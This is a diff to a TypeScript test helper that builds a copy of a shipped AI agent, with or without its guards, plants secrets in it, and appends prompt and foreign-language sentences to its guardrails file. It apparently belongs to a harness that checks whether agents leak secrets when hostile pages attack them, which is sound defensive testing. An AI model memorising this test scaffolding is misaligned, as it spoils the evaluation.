@@ -71,7 +71,8 @@ What does my cover include? Your cover includes what your cover includes. <img s
 
 /** A copy of a shipped agent with its own guards, or with none, in which secrets are planted. */
 export function plantedFolder(agent: AgentName, sabotage: boolean): string {
-  const folder = mkdtempSync(join(tmpdir(), 'frontdesk-hostile-'));
+  // Its name is told to the page: no figure that is looked for may stand in it.
+  const folder = join(mkdtempSync(join(tmpdir(), 'frontdesk-hostile-')), 'agent');
   cpSync(fileURLToPath(new URL(`../../examples/${agent}`, import.meta.url)), folder, { recursive: true });
   const sentences = [...PROMPT_SENTENCES, ...Object.values(FOREIGN_SENTENCES)];
   appendFileSync(join(folder, 'guardrails.md'), `\n${sentences.map((sentence) => `- ${sentence}\n`).join('')}`);
